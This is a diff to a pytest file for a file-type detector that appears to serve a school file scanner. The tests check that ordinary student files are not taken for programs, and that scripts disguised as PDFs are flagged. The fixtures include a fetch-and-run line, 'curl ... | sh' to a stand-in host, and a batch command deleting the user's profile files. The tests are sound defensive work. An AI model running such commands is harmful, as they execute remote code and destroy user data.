@@ -6,7 +6,9 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from detectors.true_type import Family, true_type
+from detectors.base import Content, Finding
+from detectors.files import Files
+from detectors.true_type import Family, may_hide_a_program, true_type
 from tests.detectors.built import DOCM, PROGRAM, docx, pdf, tarred, zipped
 from tests.detectors.drawn import landscape, saved
 
@@ -108,3 +110,47 @@ def test_postscript_that_starts_a_program_is_a_script_and_a_drawing_is_not():
 @given(st.binary(max_size=400), st.text(max_size=12))
 def test_every_byte_string_has_a_type(blob, name):
     assert true_type(blob, name).family in Family
+
+
+ORDINARY: dict[str, bytes | str] = {
+    "tabla.csv": "nombre,edad\nAna,12\nLuis,13\n" * 5,
+    "cuento.txt": "Había una vez un niño que quería volar. Su abuela le contó de los pájaros del río.\n" * 4,
+    "game.py": "#!/usr/bin/env python3\nimport random\n\nscore = random.randint(1, 6)\nprint('hello', score)\n" * 2,
+    "app.js": "const list = document.querySelector('#list');\nlet score = 0;\nlist.textContent = score;\n",
+    "page.html": "<!doctype html><html><head><title>My page</title></head><body><h1>Our volcano</h1></body></html>\n",
+    "notes.md": "# Volcano\n\n- lava is hot\n\nRun `python game.py` to start.\n\n```sh\npip install x\n```\n",
+    "essay.docx": docx("our volcano is hot"),
+    "project.sb3": zipped({"project.json": "{}", "a.svg": "<svg></svg>"}),
+    "pic.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><circle cx="5" cy="5" r="4"/></svg>\n',
+    "letter.rtf": r"{\rtf1\ansi{\fonttbl\f0 Arial;}\f0\fs24 Dear class, our volcano erupts on Friday.\par}",
+    "data.json": '{"name": "Ana", "points": [1, 2, 3, 4], "ok": true, "volcano": "lava and ash"}\n',
+    "paper.tex": "\\documentclass{article}\n\\begin{document}\n\\section{Volcano}\nIt is $x^2$ hot.\n\\end{document}\n",
+    "run.log": "2026-01-01 10:00:00 INFO start\n2026-01-01 10:00:01 WARN slow\n" * 6,
+    "film.srt": "1\n00:00:01,000 --> 00:00:03,000\nHello.\n\n2\n00:00:04,000 --> 00:00:06,000\nOur volcano.\n",
+    "main.c": '#include <stdio.h>\nint main(void) { printf("hi\\n"); return 0; }\n',
+    "shell lesson.txt": 'for f in *.txt; do\n  mv "$f" "${f%.txt}.md"\ndone\nif [ -z "$1" ]; then exit 1; fi\n',
+    "a.pdf": pdf(),
+    "work.zip": zipped({"a.txt": "roses"}),
+    "lake.png": saved(landscape()),
+}
+
+
+@pytest.mark.parametrize("name", ORDINARY)
+def test_no_library_takes_ordinary_school_files_for_a_program(name):
+    blob = ORDINARY[name]
+    blob = blob if isinstance(blob, bytes) else blob.encode()
+    assert true_type(blob, name).family not in (Family.SCRIPT, Family.EXECUTABLE)
+    assert not may_hide_a_program(blob, name)
+
+
+@pytest.mark.parametrize(
+    ("name", "blob"),
+    [
+        ("essay.pdf", b"#!/bin/sh\n# %PDF-1.7\ncurl -s http://x.example/a | sh\nexit 0\n" + b"echo hello\n" * 20),
+        ("essay.pdf", b"@echo off\r\nrem %PDF-1.7\r\ndel /q %USERPROFILE%\\*.*\r\n" + b"start calc.exe\r\n" * 20),
+    ],
+)
+def test_rule_6_a_script_behind_the_mark_of_a_document_is_held(name, blob):
+    content = Content(blob=blob, name=name, where=name)
+    assert true_type(blob, name).family is Family.PDF
+    assert "two_types" in [one.label for one in Files().look(content) if isinstance(one, Finding)]
